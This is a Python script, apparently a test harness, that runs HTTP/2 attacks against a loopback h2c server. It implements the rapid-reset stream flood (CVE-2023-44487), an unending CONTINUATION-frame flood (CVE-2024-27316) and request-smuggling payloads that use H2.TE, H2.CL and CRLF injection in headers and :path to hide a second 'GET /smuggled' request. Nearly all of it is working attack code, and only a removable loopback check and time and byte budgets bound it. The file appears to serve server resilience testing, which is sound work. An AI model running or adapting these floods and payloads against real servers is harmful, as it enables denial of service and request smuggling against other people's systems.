#!/usr/bin/env python3
"""HTTP/2 abuse against a server speaking h2c with prior knowledge, bounded in time.

    h2_flood.py rapid-reset  HOST PORT AUTHORITY [--streams N] [--seconds S]
    h2_flood.py continuation HOST PORT AUTHORITY [--bytes N] [--seconds S]
    h2_flood.py downgrade    HOST PORT AUTHORITY

rapid-reset: the CVE-2023-44487 shape. Opens streams (HEADERS with END_STREAM) and
resets each at once (RST_STREAM CANCEL), in batches, as fast as the socket takes them,
so the server starts work it is told to throw away; when the server ends a connection,
reconnects and goes on, as an attacker would.

continuation: one HEADERS frame without END_HEADERS, then CONTINUATION frames that
never end the header block (CVE-2024-27316 and friends), so a server that buffers the
block grows without limit; reconnects likewise.

downgrade: request smuggling through the HTTP/2 -> HTTP/1.1 translation (H2.TE, H2.CL,
CR/LF in header values and in :path), one connection per case, each hiding a second
request `GET /smuggled`; reports how the server answered each (status, reset code).

The floods stop at their budget (streams/bytes) or at --seconds. Prints one JSON line: what was sent, what the server answered, and how the
connection ended. Loopback only: the caller's test passes 127.0.0.1.
"""

import argparse
import json
import os
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import ContinuationFrame, HeadersFrame

BATCH = 100  # streams (or frames) written per sendall


class Peer:
    """The socket plus an h2 state machine that reads whatever the server sends."""

    def __init__(self, host, port, validate=True):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        config = h2.config.H2Configuration(
            client_side=True,
            header_encoding="utf-8",
            # Off for `downgrade`: it sends what a conforming client never would.
            validate_outbound_headers=validate,
            normalize_outbound_headers=validate,
        )
        self.conn = h2.connection.H2Connection(config=config)
        self.closed = False
        self.goaway = None
        self.responses = 0
        self.statuses = []
        self.resets_received = 0
        self.reset_codes = []
        self.received_bytes = 0

    def start(self):
        self.conn.initiate_connection()
        self.flush()

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.send_raw(data)

    def send_raw(self, data):
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, socket.timeout, OSError):
            self.closed = True
            return False

    def poll(self, wait=0.0):
        """Reads what is there (waiting at most `wait`), feeding the state machine."""
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], wait)
            if not ready:
                return
            wait = 0.0
            try:
                data = self.sock.recv(65536)
            except (ConnectionResetError, OSError):
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.received_bytes += len(data)
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                events = []
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.goaway = int(event.error_code)
                elif isinstance(event, h2.events.ResponseReceived):
                    self.responses += 1
                    self.statuses += [v for k, v in event.headers if k == ":status"]
                elif isinstance(event, h2.events.StreamReset):
                    self.resets_received += 1
                    self.reset_codes.append(int(event.error_code))
            self.flush()

    def drain(self, seconds):
        """After the flood: waits for the server's answer (GOAWAY, close) a little."""
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.poll(0.1)


def request_headers(authority, path="/"):
    return [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", authority),
        (":path", path),
    ]


def rapid_reset(host, port, authority, streams, seconds):
    """Floods one connection until the server ends it, then reconnects, as an attacker
    would, until the stream budget or the time is used up."""
    sent = 0
    connections = 0
    ended_by_server = 0
    peer = None
    goaways = {}
    deadline = time.monotonic() + seconds
    while sent < streams and time.monotonic() < deadline:
        try:
            peer = Peer(host, port)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        peer.start()
        peer.poll(0.05)
        while sent < streams and time.monotonic() < deadline and not peer.closed:
            if peer.goaway is not None:
                break
            try:
                for _ in range(BATCH):
                    stream_id = peer.conn.get_next_available_stream_id()
                    peer.conn.send_headers(stream_id, request_headers(authority), end_stream=True)
                    peer.conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
                    sent += 1
            except h2.exceptions.ProtocolError:
                break
            peer.flush()
            peer.poll(0.0)
        ended_by_server += finish(peer, goaways)
    return {
        "streams_sent": sent,
        "connections": connections,
        "connections_ended_by_server": ended_by_server,
        "goaway_codes": goaways,
        # Of the last connection, for the common fields below.
        "peer": peer,
    }


def finish(peer, goaways):
    """Drains and closes one flood connection; tallies its GOAWAY code in `goaways`.
    Returns 1 if the server ended it (GOAWAY or close), else 0."""
    peer.drain(0.5)
    if peer.goaway is not None:
        goaways[str(peer.goaway)] = goaways.get(str(peer.goaway), 0) + 1
    ended = peer.goaway is not None or peer.closed
    peer.sock.close()
    return 1 if ended else 0


def continuation(host, port, authority, budget, seconds):
    """One open header block per connection, fed CONTINUATION frames until the server
    ends the connection; then reconnects, until the byte budget or the time is used."""
    sent_bytes = 0
    frames = 0
    connections = 0
    ended_by_server = 0
    goaways = {}
    peer = None
    filler = os.urandom(512).hex()  # 1 KiB of header value, never indexed
    deadline = time.monotonic() + seconds
    while sent_bytes < budget and time.monotonic() < deadline:
        try:
            peer = Peer(host, port)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        peer.start()
        peer.poll(0.05)
        encoder = Encoder()
        headers = HeadersFrame(1)
        headers.data = encoder.encode(request_headers(authority))
        peer.send_raw(headers.serialize())  # no END_HEADERS: the block stays open
        while sent_bytes < budget and time.monotonic() < deadline and not peer.closed:
            if peer.goaway is not None:
                break
            batch = bytearray()
            for _ in range(BATCH):
                frame = ContinuationFrame(1)
                name = "x-flood-%d" % frames
                frame.data = encoder.encode([NeverIndexedHeaderTuple(name, filler)])
                batch += frame.serialize()
                frames += 1
            if not peer.send_raw(bytes(batch)):
                break
            sent_bytes += len(batch)
            peer.poll(0.0)
        ended_by_server += finish(peer, goaways)
    return {
        "continuation_frames": frames,
        "continuation_bytes": sent_bytes,
        "connections": connections,
        "connections_ended_by_server": ended_by_server,
        "goaway_codes": goaways,
        "peer": peer,
    }


SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: h1.test\r\n\r\n"


def downgrade_cases(authority):
    """(name, headers, body) for each smuggling shape."""
    auth = authority.encode()

    def head(method=b"POST", path=b"/", extra=()):
        return [
            (b":method", method),
            (b":scheme", b"http"),
            (b":authority", auth),
            (b":path", path),
        ] + list(extra)

    return [
        # RFC 9113 8.2.2: connection-specific fields make a request malformed.
        ("H2.TE", head(extra=[(b"transfer-encoding", b"chunked")]), b"0\r\n\r\n" + SMUGGLED),
        # 8.1.1: a content-length that disagrees with the DATA is malformed.
        ("H2.CL", head(extra=[(b"content-length", b"0")]), SMUGGLED),
        # 8.2.1: CR, LF and NUL are not allowed in field values...
        (
            "CRLF in a header value",
            head(method=b"GET", extra=[(b"x-inject", b"a\r\ntransfer-encoding: chunked")]),
            b"",
        ),
        (
            "CRLF request in a header value",
            head(method=b"GET", extra=[(b"x-inject", b"a\r\n\r\n" + SMUGGLED)]),
            b"",
        ),
        # ... nor in :path, which becomes the HTTP/1.1 request line.
        ("CRLF in :path", head(method=b"GET", path=b"/ HTTP/1.1\r\nHost: h1.test\r\n\r\n" + SMUGGLED), b""),
        ("space in :path", head(method=b"GET", path=b"/a b"), b""),
        ("colon in a header name", head(method=b"GET", extra=[(b"x:y", b"z")]), b""),
        ("uppercase header name", head(method=b"GET", extra=[(b"X-Upper", b"z")]), b""),
        ("host header disagreeing with :authority", head(method=b"GET", extra=[(b"host", b"other.test")]), b""),
    ]


def downgrade(host, port, authority):
    results = {}
    for name, headers, body in downgrade_cases(authority):
        try:
            peer = Peer(host, port, validate=False)
        except OSError as e:
            results[name] = {"error": str(e)}
            continue
        peer.start()
        peer.poll(0.05)
        try:
            peer.conn.send_headers(1, headers, end_stream=not body)
            if body:
                peer.conn.send_data(1, body, end_stream=True)
            peer.flush()
        except h2.exceptions.ProtocolError as e:
            results[name] = {"error": "h2 refused to send: %s" % e}
            peer.sock.close()
            continue
        deadline = time.monotonic() + 3
        while not peer.closed and time.monotonic() < deadline:
            peer.poll(0.1)
            if peer.statuses or peer.reset_codes or peer.goaway is not None:
                peer.drain(0.2)
                break
        results[name] = {
            "statuses": peer.statuses,
            "reset_codes": peer.reset_codes,
            "goaway": peer.goaway,
            "closed_by_server": peer.closed,
        }
        peer.sock.close()
    return {"cases": results, "peer": None}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("mode", choices=["rapid-reset", "continuation", "downgrade"])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("authority")
    parser.add_argument("--streams", type=int, default=50_000)
    parser.add_argument("--bytes", type=int, default=256 << 20)
    parser.add_argument("--seconds", type=float, default=10.0)
    args = parser.parse_args()
    if not args.host.startswith("127."):
        sys.exit("h2_flood.py: loopback targets only (127.0.0.0/8)")

    started = time.monotonic()
    if args.mode == "downgrade":
        result = downgrade(args.host, args.port, args.authority)
        result.pop("peer")
        result.update(mode=args.mode, seconds=round(time.monotonic() - started, 3))
        print(json.dumps(result), flush=True)
        return
    if args.mode == "rapid-reset":
        result = rapid_reset(args.host, args.port, args.authority, args.streams, args.seconds)
    else:
        result = continuation(args.host, args.port, args.authority, args.bytes, args.seconds)
    peer = result.pop("peer")
    if peer is None:
        sys.exit("h2_flood.py: could not connect to %s:%d" % (args.host, args.port))
    result.update(
        mode=args.mode,
        seconds=round(time.monotonic() - started, 3),
        goaway=peer.goaway,
        closed_by_server=peer.closed,
        responses=peer.responses,
        resets_received=peer.resets_received,
        received_bytes=peer.received_bytes,
    )
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
